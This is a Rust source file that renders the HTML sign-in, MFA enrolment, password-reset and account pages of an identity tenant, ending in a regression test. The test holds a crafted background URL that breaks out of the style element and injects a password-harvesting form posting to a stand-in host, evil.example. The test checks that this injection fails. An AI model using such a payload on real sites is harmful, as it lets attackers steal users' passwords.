//! The sign-in pages: plain HTML forms that work without JavaScript, with
//! labels, focus on the field that needs attention, and errors announced to
//! screen readers (`role="alert"`). Branding comes from the tenant settings.

use maud::{DOCTYPE, Markup, PreEscaped, html};

pub use tenant::branding::{Branding, is_css_colour, is_image_url};

/// A URL as it may stand inside `url("…")` in a style element: anything
/// outside the URL characters that cannot end the string, the function or
/// the element is percent-encoded (a `</style>` in it stays text).
pub fn css_url(url: &str) -> String {
    let mut out = String::with_capacity(url.len());
    for c in url.chars() {
        if c.is_ascii_alphanumeric() || "-._~:/?#[]@!$&*+,;=%".contains(c) {
            out.push(c);
        } else {
            let mut buf = [0u8; 4];
            for b in c.encode_utf8(&mut buf).bytes() {
                out.push_str(&format!("%{b:02X}"));
            }
        }
    }
    out
}

fn layout(branding: &Branding, title: &str, body: Markup) -> String {
    let background = branding
        .background_url
        .as_deref()
        .filter(|u| is_image_url(u))
        .map(|u| format!("background-image:url(\"{}\");background-size:cover;", css_url(u)))
        .unwrap_or_default();
    let style = format!(
        "body{{font-family:system-ui,sans-serif;background-color:{bg};{background}margin:0}}\
         main{{max-width:26rem;margin:4rem auto;background:#fff;padding:2rem;border-radius:8px;box-shadow:0 2px 8px #0002;overflow-wrap:anywhere}}\
         @media (max-width:30rem){{main{{margin:0;border-radius:0;padding:1.2rem}}}}\
         table{{table-layout:fixed;width:100%;border-collapse:collapse}} th{{width:8rem;vertical-align:top}} td{{overflow-wrap:anywhere}} .list th{{width:auto;text-align:left}}\
         .hint{{color:#444;font-size:.9rem;margin:.3rem 0 0}}\
         h1{{font-size:1.4rem}} label{{display:block;margin-top:1rem;font-weight:600}}\
         input[type=text],input[type=email],input[type=password]{{width:100%;box-sizing:border-box;padding:.6rem;font-size:1rem;margin-top:.3rem}}\
         button{{margin-top:1.2rem;padding:.6rem 1.4rem;font-size:1rem;background:{c};color:#fff;border:0;border-radius:4px}}\
         .error{{color:#a4000f;background:#fde7e9;padding:.6rem;border-radius:4px}} .who{{color:#444}}\
         button:focus,input:focus,a:focus{{outline:3px solid {c};outline-offset:2px}}",
        c = branding.color,
        bg = branding.background_color
    );
    html! {
        (DOCTYPE)
        html lang="en" {
            head {
                meta charset="utf-8";
                meta name="viewport" content="width=device-width, initial-scale=1";
                title { (title) " – " (branding.name) }
                style { (PreEscaped(style)) }
            }
            body {
                main {
                    @if let Some(logo) = &branding.logo_url {
                        img src=(logo) alt=(format!("{} logo", branding.name)) height="40";
                    } @else {
                        p { strong { (branding.name) } }
                    }
                    (body)
                    @if let Some(text) = &branding.text {
                        p { small { (text) } }
                    }
                }
            }
        }
    }
    .into_string()
}

fn error_box(error: Option<&str>) -> Markup {
    html! {
        @if let Some(e) = error {
            p.error id="error" role="alert" { (e) }
        }
    }
}

/// Hidden fields: the authorization request travels with the form.
pub type Hidden<'a> = &'a [(&'a str, String)];

fn hidden(fields: Hidden<'_>) -> Markup {
    html! {
        @for (name, value) in fields {
            input type="hidden" name=(name) value=(value);
        }
    }
}

/// The first page. `passkeys`: the tenant can take passkeys (it is reached
/// by a domain name), so "Sign in with a passkey" is offered.
pub fn username_page(
    branding: &Branding,
    fields: Hidden<'_>,
    username: &str,
    error: Option<&str>,
    passkeys: bool,
) -> String {
    let body = html! {
        h1 { "Sign in" }
        (error_box(error))
        form method="post" action="/oauth2/authorize" {
            (hidden(fields))
            input type="hidden" name="step" value="username";
            label for="username" { "User name" }
            // Text, not e-mail: people type what they know (DOMAIN\name too) and the
            // server explains the expected form instead of the browser refusing it.
            input type="text" id="username" name="username" value=(username) autocomplete="username"
                autocapitalize="none" spellcheck="false" required autofocus
                aria-describedby=(if error.is_some() { "username-hint error" } else { "username-hint" });
            p.hint id="username-hint" { "Your sign-in name, like name@example.com" }
            button type="submit" { "Next" }
        }
        @if passkeys {
            form method="post" action="/oauth2/authorize" {
                (hidden(fields))
                input type="hidden" name="step" value="passkey";
                (passkey_button("passkey-sign-in", "sign-in", "/oauth2/passkey", "Sign in with a passkey"))
            }
        }
    };
    layout(branding, "Sign in", body)
}

pub fn password_page(branding: &Branding, fields: Hidden<'_>, username: &str, error: Option<&str>) -> String {
    let body = html! {
        h1 { "Enter your password" }
        p.who { (username) }
        (error_box(error))
        form method="post" action="/oauth2/authorize" {
            (hidden(fields))
            input type="hidden" name="step" value="password";
            input type="hidden" name="username" value=(username);
            label for="password" { "Password" }
            input type="password" id="password" name="password" autocomplete="current-password" required autofocus
                aria-describedby=[error.map(|_| "error")];
            button type="submit" { "Sign in" }
        }
        form method="post" action="/oauth2/authorize" {
            (hidden(fields))
            input type="hidden" name="step" value="restart";
            button type="submit" style="background:#666" { "Use another account" }
        }
        p { a href="/account/forgot-password" { "Forgot your password?" } }
    };
    layout(branding, "Enter your password", body)
}

/// A passkey button and what its form needs: the script (`/webauthn.js`)
/// fetches the options from `begin` with the form's fields, asks the
/// browser's authenticator (`kind`: `register`, `sign-in` or
/// `second-factor`), and submits the form with the answer in `credential`.
/// Hidden until the script finds WebAuthn in the browser.
fn passkey_button(id: &str, kind: &str, begin: &str, text: &str) -> Markup {
    html! {
        input type="hidden" name="passkey_token" value="";
        input type="hidden" name="credential" value="";
        button type="button" id=(id) data-passkey=(kind) data-begin=(begin) hidden { (text) }
        p.hint id=(format!("{id}-status")) role="status" {}
        script src="/webauthn.js" defer {}
    }
}

/// The second step after the password: a passkey, a code from the user's
/// authenticator app, or a recovery code. `step.challenge` stands for the
/// password step that succeeded.
pub fn code_page(
    branding: &Branding,
    fields: Hidden<'_>,
    username: &str,
    step: &tenant::signin::SecondStep,
    error: Option<&str>,
) -> String {
    let body = html! {
        h1 { "Verify it’s you" }
        p.who { (username) }
        (error_box(error))
        @if step.passkey {
            form method="post" action="/oauth2/authorize" {
                (hidden(fields))
                input type="hidden" name="step" value="code";
                input type="hidden" name="username" value=(username);
                input type="hidden" name="challenge" value=(step.challenge);
                p { "Use your passkey." }
                (passkey_button("passkey-verify", "second-factor", "/oauth2/passkey", "Use a passkey"))
            }
        }
        form method="post" action="/oauth2/authorize" {
            (hidden(fields))
            input type="hidden" name="step" value="code";
            input type="hidden" name="username" value=(username);
            input type="hidden" name="challenge" value=(step.challenge);
            @if step.authenticator_app {
                p { "Enter the code your authenticator app shows for this account, or one of your recovery codes." }
            } @else {
                p { "Or enter one of your recovery codes." }
            }
            label for="code" { "Code" }
            (code_input(error))
            button type="submit" { "Verify" }
        }
        form method="post" action="/oauth2/authorize" {
            (hidden(fields))
            input type="hidden" name="step" value="restart";
            button type="submit" style="background:#666" { "Use another account" }
        }
    };
    layout(branding, "Verify it’s you", body)
}

/// The registration step of a sign-in (the policy requires a second
/// method, or its campaign asks for one).
#[derive(Debug)]
pub struct RegisterStep<'a> {
    pub username: &'a str,
    pub challenge: &'a str,
    /// Why it is required; `None`: the campaign asks.
    pub why: Option<String>,
    /// The campaign's "not now": `Some(None)` always, `Some(Some(n))` n more
    /// times, `None` not at all (required).
    pub skips_left: Option<Option<u32>>,
    pub passkeys: bool,
    pub offer: &'a tenant::mfa::TotpOffer,
    pub qr_svg: &'a str,
}

/// Registering a method in the middle of a sign-in: a passkey, or an
/// authenticator app (QR code, key, a current code).
pub fn register_page(branding: &Branding, fields: Hidden<'_>, step: &RegisterStep<'_>, error: Option<&str>) -> String {
    let carry = html! {
        (hidden(fields))
        input type="hidden" name="username" value=(step.username);
        input type="hidden" name="challenge" value=(step.challenge);
    };
    let body = html! {
        h1 { "Add a sign-in method" }
        p.who { (step.username) }
        p {
            @if let Some(why) = &step.why { (why) " " }
            "Add a passkey or an authenticator app, so a stolen password is not enough to sign in as you."
        }
        (error_box(error))
        @if step.passkeys {
            form method="post" action="/oauth2/authorize" {
                (carry)
                input type="hidden" name="step" value="enrol-passkey";
                input type="hidden" name="label" value="Passkey";
                (passkey_button("enrol-passkey", "enrol", "/oauth2/passkey", "Add a passkey"))
            }
        }
        h2 { "Or an authenticator app" }
        p { "Scan this code with your authenticator app, or type the key into it." }
        div role="img" aria-label="QR code of the key for your authenticator app" { (PreEscaped(step.qr_svg)) }
        p { "Key: " code id="secret" { (step.offer.secret) } }
        form method="post" action="/oauth2/authorize" {
            (carry)
            input type="hidden" name="step" value="enrol-app";
            input type="hidden" name="secret" value=(step.offer.secret);
            input type="hidden" name="label" value="Authenticator app";
            label for="code" { "The code the app shows" }
            (code_input(error))
            button type="submit" { "Add and continue" }
        }
        @if let Some(left) = step.skips_left {
            form method="post" action="/oauth2/authorize" {
                (carry)
                input type="hidden" name="step" value="skip";
                button type="submit" id="skip" style="background:#666" { "Not now" }
                @if let Some(n) = left {
                    p.hint { "You can skip this " (n) (if n == 1 { " more time." } else { " more times." }) }
                }
            }
        }
    };
    layout(branding, "Add a sign-in method", body)
}

/// A method was added during a sign-in: the recovery codes (shown once),
/// then on to the application.
pub fn enrolled_at_sign_in_page(
    branding: &Branding,
    fields: Hidden<'_>,
    enrolled: &tenant::mfa::Enrolled,
    challenge: &str,
) -> String {
    let body = html! {
        h1 { (if enrolled.method.kind == tenant::mfa::MethodKind::Passkey { "Passkey added" } else { "Authenticator app added" }) }
        p role="status" { "“" (enrolled.method.label) "” is now a way to verify it’s you. Change your methods at any time on Security info (/account)." }
        (recovery_codes(&enrolled.recovery_codes))
        form method="post" action="/oauth2/authorize" {
            (hidden(fields))
            input type="hidden" name="step" value="continue";
            input type="hidden" name="challenge" value=(challenge);
            button type="submit" id="continue" { "Continue" }
        }
    };
    layout(branding, "Sign-in method added", body)
}

fn recovery_codes(codes: &[String]) -> Markup {
    html! {
        @if !codes.is_empty() {
            h2 { "Your recovery codes" }
            p { "Each works once instead of a code or passkey, if you lose your device. Keep them somewhere safe: they are not shown again." }
            ul id="recovery-codes" {
                @for c in codes {
                    li { code { (c) } }
                }
            }
        }
    }
}

/// What the Security info page shows of the signed-in user.
#[derive(Debug, Clone)]
pub struct AccountView {
    pub user_name: String,
    pub methods: Vec<tenant::mfa::MethodInfo>,
    pub recovery_codes_left: usize,
    pub recent: Vec<tenant::signin_log::Entry>,
    /// Passkeys can be added (the tenant is reached by a domain name).
    pub passkeys: bool,
    /// The session is recent enough (and strong enough) to add a method.
    pub may_add: bool,
    /// The user can change their password here (password writeback).
    pub may_change_password: bool,
}

fn kind_text(kind: tenant::mfa::MethodKind) -> &'static str {
    match kind {
        tenant::mfa::MethodKind::Totp => "authenticator app",
        tenant::mfa::MethodKind::Passkey => "passkey",
    }
}

/// The one-time code field of the sign-in code step and of enrolment.
fn code_input(error: Option<&str>) -> Markup {
    html! {
        input type="text" id="code" name="code" autocomplete="one-time-code" inputmode="numeric" required autofocus
            maxlength="16" aria-describedby=[error.map(|_| "error")];
    }
}

fn csrf_field(csrf: &str) -> Markup {
    html! { input type="hidden" name="csrf" value=(csrf); }
}

/// Security info: the user's second factors, recovery codes left, recent sign-ins.
pub fn account_page(branding: &Branding, view: &AccountView, csrf: &str, notice: Option<&str>) -> String {
    let body = html! {
        h1 { "Security info" }
        p.who { (view.user_name) }
        p { a href="/account/apps" { "My Apps" } " — the applications you may use" }
        @if let Some(n) = notice {
            p role="status" { (n) }
        }
        h2 { "Sign-in methods" }
        @if view.methods.is_empty() {
            p { "Only your password. Add a passkey or an authenticator app so a stolen password is not enough to sign in as you." }
        } @else {
            ul id="methods" {
                @for m in &view.methods {
                    li {
                        strong { (m.label) } " — " (kind_text(m.kind)) ", added " (tenant::util::display_time(m.created))
                        @if let Some(used) = m.last_used { ", last used " (tenant::util::display_time(used)) }
                        form method="post" action="/account" {
                            (csrf_field(csrf))
                            input type="hidden" name="action" value="remove";
                            input type="hidden" name="method" value=(m.id);
                            button type="submit" style="background:#666" aria-label=(format!("Remove {}", m.label)) { "Remove" }
                        }
                    }
                }
            }
            p id="recovery-left" { (view.recovery_codes_left) " unused recovery codes." }
        }
        @if !view.may_add {
            p { "To add a sign-in method, verify it’s you first." }
            p { a href="/account/sign-in?again=1" id="verify-again" { "Verify it’s you" } }
        }
        @if view.passkeys && view.may_add {
            form method="post" action="/account" {
                (csrf_field(csrf))
                input type="hidden" name="action" value="add-passkey";
                label for="passkey-label" { "Name for a new passkey" }
                input type="text" id="passkey-label" name="label" value="Passkey" required maxlength="64";
                (passkey_button("add-passkey", "register", "/account/passkey", "Add a passkey"))
            }
        }
        @if view.may_add {
            form method="post" action="/account" {
                (csrf_field(csrf))
                input type="hidden" name="action" value="offer";
                button type="submit" id="add-app" { "Add an authenticator app" }
            }
        }
        @if view.may_change_password {
            h2 { "Password" }
            form method="post" action="/account" id="change-password" {
                (csrf_field(csrf))
                input type="hidden" name="action" value="change-password";
                label for="current-password" { "Current password" }
                input type="password" id="current-password" name="password" autocomplete="current-password" required;
                label for="new-password" { "New password" }
                input type="password" id="new-password" name="new_password" autocomplete="new-password" required;
                label for="confirm-password" { "Confirm the new password" }
                input type="password" id="confirm-password" name="confirm" autocomplete="new-password" required;
                button type="submit" { "Change password" }
            }
        }
        h2 { "Recent sign-ins" }
        @if view.recent.is_empty() {
            p { "None yet." }
        } @else {
            table.list {
                thead { tr { th scope="col" { "When" } th scope="col" { "How" } th scope="col" { "Result" } } }
                tbody {
                    @for e in &view.recent {
                        tr {
                            td { (tenant::util::display_time(e.at)) }
                            td { (e.method) }
                            td { @if e.success { "signed in" } @else { (e.reason) } }
                        }
                    }
                }
            }
        }
    };
    layout(branding, "Security info", body)
}

/// "My Apps": the applications the user may use, each signing them in.
pub fn my_apps_page(branding: &Branding, user_name: &str, apps: &[(String, String)]) -> String {
    let body = html! {
        h1 { "My Apps" }
        p.who { (user_name) }
        @if apps.is_empty() {
            p { "No applications are set up for you yet. Ask your administrator for access." }
        } @else {
            ul id="apps" {
                @for (id, name) in apps {
                    li { a href=(format!("/saml/{}/start", tenant::util::urlencode(id))) { (name) } }
                }
            }
        }
        p { a href="/account" { "Security info" } }
    };
    layout(branding, "My Apps", body)
}

/// My Apps without a sign-in session.
pub fn my_apps_signed_out_page(branding: &Branding) -> String {
    let body = html! {
        h1 { "My Apps" }
        p { "Sign in to see the applications you may use." }
        p { a href="/account/sign-in?next=apps" id="sign-in" { "Sign in" } }
    };
    layout(branding, "My Apps", body)
}

/// Security info without a sign-in session.
pub fn account_signed_out_page(branding: &Branding) -> String {
    let body = html! {
        h1 { "Security info" }
        p { "Sign in to see and change how you sign in." }
        p { a href="/account/sign-in" id="sign-in" { "Sign in" } }
    };
    layout(branding, "Security info", body)
}

/// Adding an authenticator app: the QR code and the key, then a current code.
pub fn enrol_page(
    branding: &Branding,
    offer: &tenant::mfa::TotpOffer,
    qr_svg: &str,
    csrf: &str,
    label: &str,
    error: Option<&str>,
) -> String {
    let body = html! {
        h1 { "Add an authenticator app" }
        p { "Scan this code with your authenticator app, or type the key into it." }
        div role="img" aria-label="QR code of the key for your authenticator app" { (PreEscaped(qr_svg)) }
        p { "Key: " code id="secret" { (offer.secret) } }
        (error_box(error))
        form method="post" action="/account" {
            (csrf_field(csrf))
            input type="hidden" name="action" value="confirm";
            input type="hidden" name="secret" value=(offer.secret);
            label for="label" { "Name for this app" }
            input type="text" id="label" name="label" value=(if label.is_empty() { "Authenticator app" } else { label }) required maxlength="64";
            label for="code" { "The code the app shows" }
            (code_input(error))
            button type="submit" { "Add" }
        }
        p { a href="/account" { "Cancel" } }
    };
    layout(branding, "Add an authenticator app", body)
}

/// The method was added; with the first one, the recovery codes (shown once).
pub fn enrolled_page(branding: &Branding, enrolled: &tenant::mfa::Enrolled) -> String {
    let passkey = enrolled.method.kind == tenant::mfa::MethodKind::Passkey;
    let title = if passkey { "Passkey added" } else { "Authenticator app added" };
    let body = html! {
        h1 { (title) }
        @if passkey {
            p role="status" { "You can now sign in with “" (enrolled.method.label) "” alone, and it verifies it’s you after your password." }
        } @else {
            p role="status" { "From now on, signing in asks for a code from “" (enrolled.method.label) "”." }
        }
        (recovery_codes(&enrolled.recovery_codes))
        p { a href="/account" { "Back to Security info" } }
    };
    layout(branding, title, body)
}

pub fn change_password_page(branding: &Branding, fields: Hidden<'_>, username: &str, error: Option<&str>) -> String {
    let body = html! {
        h1 { "Choose a new password" }
        p.who { (username) }
        p { "Your password has to be changed before you can sign in." }
        (error_box(error))
        form method="post" action="/oauth2/authorize" {
            (hidden(fields))
            input type="hidden" name="step" value="change";
            input type="hidden" name="username" value=(username);
            label for="password" { "Current password" }
            input type="password" id="password" name="password" autocomplete="current-password" required autofocus;
            label for="new_password" { "New password" }
            input type="password" id="new_password" name="new_password" autocomplete="new-password" required minlength="8";
            label for="confirm" { "Confirm the new password" }
            input type="password" id="confirm" name="confirm" autocomplete="new-password" required minlength="8";
            button type="submit" { "Change and sign in" }
        }
    };
    layout(branding, "Choose a new password", body)
}

/// "Forgot your password?": the user name, first.
pub fn forgot_name_page(branding: &Branding, csrf: &str, error: Option<&str>) -> String {
    let body = html! {
        h1 { "Reset your password" }
        p { "If your organisation lets you reset your password here, you will be asked for a code from the authenticator app you registered." }
        (error_box(error))
        form method="post" action="/account/forgot-password" {
            (csrf_field(csrf))
            input type="hidden" name="step" value="name";
            label for="username" { "User name" }
            input type="text" id="username" name="username" autocomplete="username" autocapitalize="none"
                spellcheck="false" required autofocus aria-describedby=[error.map(|_| "error")];
            button type="submit" { "Next" }
        }
    };
    layout(branding, "Reset your password", body)
}

/// The reset's code step (the same page whoever the name was).
/// `passkeys`: the tenant can take passkeys, so "Use a passkey" is offered
/// (to everyone alike: the page does not tell which methods an account has).
pub fn forgot_code_page(
    branding: &Branding,
    csrf: &str,
    username: &str,
    token: &str,
    passkeys: bool,
    error: Option<&str>,
) -> String {
    let body = html! {
        h1 { "Verify it’s you" }
        p.who { (username) }
        (error_box(error))
        @if passkeys {
            form method="post" action="/account/forgot-password" {
                (csrf_field(csrf))
                input type="hidden" name="step" value="passkey";
                input type="hidden" name="username" value=(username);
                input type="hidden" name="token" value=(token);
                p { "Use your passkey." }
                (passkey_button("passkey-reset", "reset", "/oauth2/passkey", "Use a passkey"))
            }
        }
        p { "Enter the code your authenticator app shows (or one of your recovery codes)." }
        form method="post" action="/account/forgot-password" {
            (csrf_field(csrf))
            input type="hidden" name="step" value="code";
            input type="hidden" name="username" value=(username);
            input type="hidden" name="token" value=(token);
            label for="code" { "Code" }
            (code_input(error))
            button type="submit" { "Verify" }
        }
    };
    layout(branding, "Verify it’s you", body)
}

/// The reset's last step: the new password.
pub fn forgot_password_page(
    branding: &Branding,
    csrf: &str,
    username: &str,
    token: &str,
    error: Option<&str>,
) -> String {
    let body = html! {
        h1 { "Choose a new password" }
        p.who { (username) }
        p { "It is set on your organisation's network too; its password rules apply." }
        (error_box(error))
        form method="post" action="/account/forgot-password" {
            (csrf_field(csrf))
            input type="hidden" name="step" value="password";
            input type="hidden" name="token" value=(token);
            label for="new_password" { "New password" }
            input type="password" id="new_password" name="new_password" autocomplete="new-password" required minlength="8" autofocus
                aria-describedby=[error.map(|_| "error")];
            label for="confirm" { "Confirm the new password" }
            input type="password" id="confirm" name="confirm" autocomplete="new-password" required minlength="8";
            button type="submit" { "Reset password" }
        }
    };
    layout(branding, "Choose a new password", body)
}

/// A page with a message and no form (errors that cannot go back to the app).
pub fn message_page(branding: &Branding, title: &str, message: &str) -> String {
    let body = html! {
        h1 { (title) }
        p role="alert" { (message) }
    };
    layout(branding, title, body)
}

/// A page that explains what happened and offers the way back (`href`).
pub fn restart_page(branding: &Branding, title: &str, message: &str, href: &str, action: &str) -> String {
    let body = html! {
        h1 { (title) }
        p role="alert" { (message) }
        p { a href=(href) { (action) } }
    };
    layout(branding, title, body)
}

/// The tenant's front page for people who open its address in a browser.
pub fn landing_page(branding: &Branding, issuer: &str) -> String {
    let body = html! {
        h1 { (branding.name) }
        p { "This is an identity tenant: a directory of people and groups, and the sign-in service applications use." }
        ul {
            li { a href="/myapps" { "My Apps" } " — sign in to the sample application" }
            li { a href="/.well-known/openid-configuration" { "OpenID Connect discovery document" } " — for application developers" }
            li { "SCIM 2.0 API (needs a token): " code { (issuer) "/scim/v2" } }
        }
    };
    layout(branding, "Welcome", body)
}

/// "Sign out?" — a logout link without proof it came from the user's application.
pub fn confirm_logout_page(branding: &Branding, csrf: &str) -> String {
    let body = html! {
        h1 { "Sign out?" }
        p { "Do you want to sign out of " (branding.name) "?" }
        form method="post" action="/oauth2/logout" {
            input type="hidden" name="csrf" value=(csrf);
            button type="submit" { "Sign out" }
        }
    };
    layout(branding, "Sign out", body)
}

pub fn signed_out_page(branding: &Branding) -> String {
    message_page(branding, "Signed out", "You have signed out. You can close this window.")
}

/// The demo relying party's pages ("My Apps").
pub fn myapps_page(branding: &Branding, signed_in: Option<&serde_json::Value>, sign_in_url: &str) -> String {
    let body = html! {
        h1 { "My Apps" }
        @if let Some(claims) = signed_in {
            p role="status" { "Signed in as " strong id="signed-in-as" { (claims["preferred_username"].as_str().unwrap_or("?")) } }
            table {
                @for key in ["name", "email", "sub", "immutable_id"] {
                    @if let Some(v) = claims[key].as_str() {
                        tr { th scope="row" style="text-align:left;padding-right:1rem" { (key) } td { (v) } }
                    }
                }
            }
            p { a href="/myapps/logout" id="sign-out" { "Sign out" } }
        } @else {
            p { "A sample application that signs you in with the tenant's OpenID Connect provider." }
            p { a href=(sign_in_url) id="sign-in" { "Sign in" } }
        }
    };
    layout(branding, "My Apps", body)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Found by a review: a background URL could close the style element
    /// and inject a form.
    #[test]
    fn a_background_url_cannot_leave_the_style_element() {
        let evil = "https://img.example/x.png\");}</style><form action=https://evil.example><input name=password></form><style>";
        let branding = Branding {
            name: "Zoë & Co".into(),
            color: "#123".into(),
            background_color: "#fff".into(),
            logo_url: None,
            background_url: Some(evil.into()),
            text: None,
        };
        let page = layout(&branding, "t", html! { p { "x" } });
        assert!(!page.contains("<form action=https://evil"), "{page}");
        assert_eq!(page.matches("</style>").count(), 1, "{page}");
        assert!(!is_image_url("//evil.example/x.png") && !is_image_url("javascript:x") && is_image_url("/logo.png"));
        assert_eq!(css_url("https://a.example/ü (1).png"), "https://a.example/%C3%BC%20%281%29.png");
    }
}
